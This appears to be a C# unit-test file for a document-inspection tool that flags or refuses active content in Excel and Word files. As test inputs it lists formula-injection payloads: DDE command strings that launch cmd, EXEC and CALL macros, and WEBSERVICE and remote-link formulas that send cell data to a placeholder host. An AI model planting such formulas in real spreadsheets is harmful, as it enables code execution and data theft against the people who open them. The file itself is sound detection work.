using System.Security;
using Gatehouse.Inspection.Tests.Zip;

namespace Gatehouse.Inspection.Tests.Office;

public sealed class OfficeFormulaTests
{
    private const string Sheet = "xl/worksheets/sheet1.xml";

    [Theory]
    [InlineData("""WEBSERVICE("http://host/?"&B1)""")]
    [InlineData("""SUM(1,_xlfn.webservice ("http://host/"))""")]
    [InlineData("""_xlfn.IMAGE("https://host/a.png")""")]
    [InlineData("""DDE("cmd";"/c calc";"a")""")]
    [InlineData("""RTD("a.b",,"c")""")]
    [InlineData("""CALL("a","b","c")""")]
    [InlineData("""REGISTER.ID("a","b")""")]
    [InlineData("""EXEC("calc")""")]
    [InlineData("cmd|'/c calc'!A0")]
    [InlineData("'cmd'|a!A0")]
    [InlineData("""HYPERLINK("\\host\share\a.exe","click")""")]
    [InlineData("""HYPERLINK("file://ho"&"st/a","click")""")]
    [InlineData("""IF(A1,HYPERLINK(IF(B1,"x","\\host\share"),"click"),0)""")]
    [InlineData("""HYPERLINK("calc"&".exe")""")]
    [InlineData(@"'\\host\share\[b.xlsx]S'!A1")]
    [InlineData(@"'\\host\share\b.xlsx'!Total+1")]
    [InlineData("'http://host/[b.xlsx]S'!A1")]
    [InlineData("SUM('https://host/a b/[b.xlsx]S'!A1:B2)")]
    [InlineData("'file://host/share/[b.xlsx]S'!A1")]
    [InlineData("'http:%2F%2Fhost%2F[b.xlsx]S'!A1")]
    [InlineData(@"[\\host\share\b.xlsx]S!A1")]
    [InlineData(@"1+\\host\share\[b.xlsx]S!A1")]
    [InlineData("http://host/[b.xlsx]S!A1")]
    [InlineData("""INDIRECT("'\\host\share\["&B1&".xlsx]S'!A1")""")]
    [InlineData("_xlfn.MAP(A2:A3,_xleta.WEBSERVICE)")]
    [InlineData("""_xlfn.LET(_xlpm.f,_xlfn.IMAGE,_xlpm.f("https://host/a.png"))""")]
    [InlineData("""_xlfn.LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f("file://host/a"))""")]
    [InlineData("""LET(f,WEBSERVICE,f("http://host/"))""")]
    [InlineData("_xleta.webservice")]
    public void Formulas_that_load_or_start_something_are_active(string formula)
    {
        var text = SecurityElement.Escape(formula);
        foreach (var element in new[] { "<c><f>{0}</f></c>", "<x:formula1 xmlns:x='x'><x:f>{0}</x:f></x:formula1>", "<formula>{0}</formula>", "<definedName name='a'>{0}</definedName>" })
            Archives.RefusesOrFlags(With(element.Replace("{0}", text, StringComparison.Ordinal)), Reasons.ActiveContent, Archives.Xlsx);
    }

    [Theory]
    [InlineData("SUM(A1:B2)*2")]
    [InlineData("""A1&" | WEBSERVICE(x) "" IMAGE(y)" """)]
    [InlineData("'CALL(a)|b'!A1+Register!A1")]
    [InlineData("SUM(Table1[[#This Row],[a|b]])")]
    [InlineData("MY.CALL(1)+RECALL(2)")]
    [InlineData("""HYPERLINK("https://example.org/?q="&A1,"a \\ b")""")]
    [InlineData("""HYPERLINK("#'"&A1&"'!A1","go")""")]
    [InlineData("""HYPERLINK("[C:\data\a.xlsx]Sheet1!A1","go")""")]
    [InlineData("""HYPERLINK("mailto:"&A1&"?subject=Re: a")""")]
    [InlineData("HYPERLINK(A1)")]
    [InlineData("[1]Sheet1!A1+'[2]Sheet 1'!A1")]
    [InlineData(@"'C:\data\[b.xlsx]S'!A1")]
    [InlineData("SUM('Jan 20:Dec 20'!A1)/'R&D 100%'!A1/Table1[[#This Row],[http://a]]")]
    [InlineData("""INDIRECT("'"&B1&"'!A"&C1/2)&"http://a/" """)]
    [InlineData("Table1[km/h]+Table1[[a],[b/c]]")]
    [InlineData("_xlfn.MAP(A2:A3,_xleta.SUM)*Call_1-Put")]
    [InlineData("Call-Put+(Image*2)")]
    [InlineData("_xlfn.LET(_xlpm.a,Call!A1,Image!B2+_xlpm.a)")]
    public void Other_formulas_are_honest(string formula) => Archives.Accepts(With($"<c><f>{SecurityElement.Escape(formula)}</f></c>"), Archives.Xlsx);

    [Theory]
    [InlineData("<definedName name='_xlnm.Auto_Open' xlm='1'>A1</definedName>")]
    [InlineData("<definedName name='a' vbProcedure='true'>A1</definedName>")]
    [InlineData("<volType type='realTimeData'/>")]
    [InlineData("<webPublishItem destinationFile='a.htm'/>")]
    [InlineData("<sp macro=\"'http://host/a.xlsm'!Go\"/>")]
    [InlineData("<x:FmlaMacro xmlns:x='x'>'\\\\host\\a.xlsm'!Go</x:FmlaMacro>")]
    [InlineData("<x:FmlaRange xmlns:x='x'>'\\\\host\\[b.xlsx]S'!A1</x:FmlaRange>")]
    [InlineData("<x:FmlaPict xmlns:x='x'>cmd|'/c calc'!A0</x:FmlaPict>")]
    [InlineData("<formControlPr fmlaRange=\"'\\\\host\\[b.xlsx]S'!A1\"/>")]
    [InlineData("<formControlPr fmlaLink=\"cmd|'/c calc'!A0\"/>")]
    [InlineData("<sp textlink=\"'\\\\host\\[b.xlsx]S'!A1\"/>")]
    [InlineData("<f t='dataTable' r1='cmd|x'/>")]
    [InlineData("<worksheetSource ref='A1:B2' sheet='\\\\host\\[b.xlsx]S'/>")]
    public void Markup_of_sheets_that_acts_is_active(string xml) => Archives.RefusesOrFlags(With(xml), Reasons.ActiveContent, Archives.Xlsx);

    [Theory]
    [InlineData("<definedName name='a' hidden='1'>Sheet1!A1</definedName>")]
    [InlineData("<sp macro=''/><sp macro='[0]!Button1'/>")]
    [InlineData("<sp textlink='$A$1'/><formControlPr fmlaLink='Sheet1!$A$1' fmlaRange='Names'/><worksheetSource sheet='R&amp;D 2026'/>")]
    public void Other_markup_of_sheets_is_honest(string xml) => Archives.Accepts(With(xml), Archives.Xlsx);

    [Theory]
    [InlineData("WEBSER<z:x>1</z:x>VICE(1)")]
    [InlineData("WEBSER<z:f>1</z:f>VICE(1)")]
    [InlineData("<z:x>\"</z:x>cmd|'/c calc'!A0<z:x>\"</z:x>")]
    [InlineData("1<z:x/>")]
    [InlineData("<xm:f xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>1</xm:f>")]
    public void Markup_inside_of_a_formula_is_damage(string content)
    {
        foreach (var element in new[] { "f", "formula1", "definedName" })
            Archives.Refuses(With($"<s:{element} xmlns:s='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:z='z'>{content}</s:{element}>"), Reasons.BadStructure);
    }

    [Fact]
    public void A_formula_of_Excel_2010_stands_in_an_element_of_its_own()
    {
        static string Formula(string formula) =>
            $"<e:formula1 xmlns:e='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'> <xm:f xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>{formula}</xm:f></e:formula1>";

        Archives.Accepts(With(Formula("A1:A3")), Archives.Xlsx);
        Archives.Refuses(With(Formula("EXEC(1)")), Reasons.ActiveContent);
        Archives.Refuses(With(Formula("1").Replace("> <", ">EXEC(<", StringComparison.Ordinal)), Reasons.BadStructure);
    }

    [Fact]
    public void A_formula_is_no_longer_than_a_program_writes() => Archives.Refuses(With($"<f>{new string(' ', 17 * 1024)}EXEC(1)</f>"), Reasons.BadStructure);

    [Theory]
    [InlineData("file://host/share/")]
    [InlineData("C:\\")]
    [InlineData("\\\\host\\share")]
    public void A_base_of_links_that_is_not_on_the_web_is_active(string target) =>
        Archives.RefusesOrFlags(WithBase(target), Reasons.ActiveContent, Archives.Docx);

    [Theory]
    [InlineData("https://example.org/a/")]
    [InlineData("data")]
    public void A_base_of_links_on_the_web_is_honest(string target) => Archives.Accepts(WithBase(target), Archives.Docx);

    private static byte[] With(string xml) => OfficeBuilder.Excel.With(Sheet, $"<a>{xml}</a>").Build();

    private static byte[] WithBase(string target) =>
        OfficeBuilder.Word.With("docProps/app.xml", $"<Properties><HyperlinkBase>{target}</HyperlinkBase></Properties>").Build();
}
